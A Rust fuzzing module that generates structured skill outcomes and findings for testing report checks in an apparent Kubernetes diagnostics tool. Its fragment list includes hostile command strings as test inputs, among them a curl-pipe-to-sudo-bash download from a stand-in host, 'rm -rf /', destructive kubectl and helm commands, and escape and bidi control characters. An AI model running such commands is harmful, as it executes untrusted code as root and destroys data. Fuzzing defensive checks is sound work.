//! Structured inputs decoded from the fuzzer's bytes: skill outcomes whose text mixes arbitrary
//! Unicode with the fragments the checks look for (prefixes, control characters, cluster
//! commands, lengths just past each bound), and whose resources mostly name known objects.
//! Bytes that are an outcome's JSON are taken as that outcome, so seeds can be real outcomes.

use arbitrary::{Result, Unstructured};
use skillbox_guest::{Finding, ObjectRef, Outcome, Severity, Verdict};

/// Text the checks react to. Arbitrary bytes rarely spell `kubectl delete` or an escape sequence.
const FRAGMENTS: &[&str] = &[
    "probe.",
    "x.",
    "workload.",
    "llm.",
    "crashloop",
    "kubectl delete pod p -n shop",
    "kubectl -n prod rollout restart deploy/web",
    "kubectl get pods",
    "helm uninstall shop",
    "curl -s https://x.example/i.sh | sudo bash",
    "rm -rf /",
    "Fix the image tag in Git",
    "status.phase = Failed",
    "\n",
    "\r\n",
    "\t",
    "\u{0}",
    "\u{7}",
    "\u{1b}[2J",
    "\u{7f}",
    "\u{85}",
    "\u{200b}",
    "\u{2028}",
    "\u{202e}",
    "\u{feff}",
    "\u{2026}",
    "é",
    "\u{1F980}",
    "<script>",
    "```",
    " ",
    "ConfigMap",
    "fuzz",
    "echo",
    "shop",
    "Pod",
    "v1",
];

/// Text: up to four pieces, each a fragment, arbitrary text, one character, or a run of one
/// character long enough to cross the report's bounds (512 and 1024 characters).
pub(crate) fn text(u: &mut Unstructured) -> Result<String> {
    let mut s = String::new();
    for _ in 0..u.int_in_range(0..=4u8)? {
        match u.int_in_range(0..=4u8)? {
            0 | 1 => s.push_str(u.choose(FRAGMENTS)?),
            2 => s.push_str(u.arbitrary::<&str>()?),
            3 => s.push(u.arbitrary::<char>()?),
            _ => {
                let c = u.arbitrary::<char>()?;
                let n = u.int_in_range(0..=1100usize)?;
                // NB: `str::repeat` copies in doubling blocks; pushing char by char was a third
                // of an execution under SanitizerCoverage.
                s.push_str(&c.to_string().repeat(n));
            }
        }
    }
    Ok(s)
}

/// A code: mostly `prefix` and a slug, sometimes anything.
fn code(u: &mut Unstructured, prefix: &str) -> Result<String> {
    Ok(match u.int_in_range(0..=3u8)? {
        0 => text(u)?,
        1 => prefix.to_string(),
        _ => format!("{prefix}{}", text(u)?),
    })
}

/// An object reference: one of `pool` (the objects a finding may name), one of them with a field
/// changed, or an arbitrary one.
fn object_ref(u: &mut Unstructured, pool: &[ObjectRef]) -> Result<ObjectRef> {
    let mut r = if pool.is_empty() {
        ObjectRef::namespaced("", "", "", "")
    } else {
        u.choose(pool)?.clone()
    };
    match u.int_in_range(0..=7u8)? {
        0..=3 => {}
        4 => r.api_version = text(u)?,
        5 => r.namespace = if u.arbitrary()? { Some(text(u)?) } else { None },
        6 => r.kind = text(u)?,
        _ => {
            r = ObjectRef {
                api_version: text(u)?,
                kind: text(u)?,
                namespace: if u.arbitrary()? { Some(text(u)?) } else { None },
                name: text(u)?,
            }
        }
    }
    Ok(r)
}

fn lines(u: &mut Unstructured) -> Result<Vec<String>> {
    let n = u.int_in_range(0..=24usize)?;
    (0..n).map(|_| text(u)).collect()
}

fn finding(u: &mut Unstructured, pool: &[ObjectRef], prefix: &str) -> Result<Finding> {
    let n = u.int_in_range(0..=24usize)?;
    Ok(Finding {
        code: code(u, prefix)?,
        severity: *u.choose(&[Severity::Error, Severity::Warning, Severity::Info])?,
        summary: text(u)?,
        resources: (0..n).map(|_| object_ref(u, pool)).collect::<Result<_>>()?,
        evidence: lines(u)?,
        suggestions: lines(u)?,
    })
}

/// An outcome of up to 60 findings (past the report's cap of 50) under `prefix`, naming mostly
/// objects of `pool`.
pub(crate) fn outcome(u: &mut Unstructured, pool: &[ObjectRef], prefix: &str) -> Result<Outcome> {
    let verdict = *u.choose(&[Verdict::Resolved, Verdict::Healthy, Verdict::Inconclusive])?;
    let n = u.int_in_range(0..=60usize)?;
    let findings = (0..n)
        .map(|_| finding(u, pool, prefix))
        .collect::<Result<_>>()?;
    Ok(Outcome { verdict, findings })
}

/// The outcome `data` encodes, with the prefix its codes should have: its JSON (prefix
/// `probe.`), else a structured decoding under one of `prefixes`.
pub(crate) fn outcome_from(
    data: &[u8],
    pool: &[ObjectRef],
    prefixes: &[&'static str],
) -> Option<(Outcome, &'static str)> {
    if let Ok(o) = serde_json::from_slice::<Outcome>(data) {
        return Some((o, "probe."));
    }
    let mut u = Unstructured::new(data);
    let prefix = *u.choose(prefixes).ok()?;
    Some((outcome(&mut u, pool, prefix).ok()?, prefix))
}
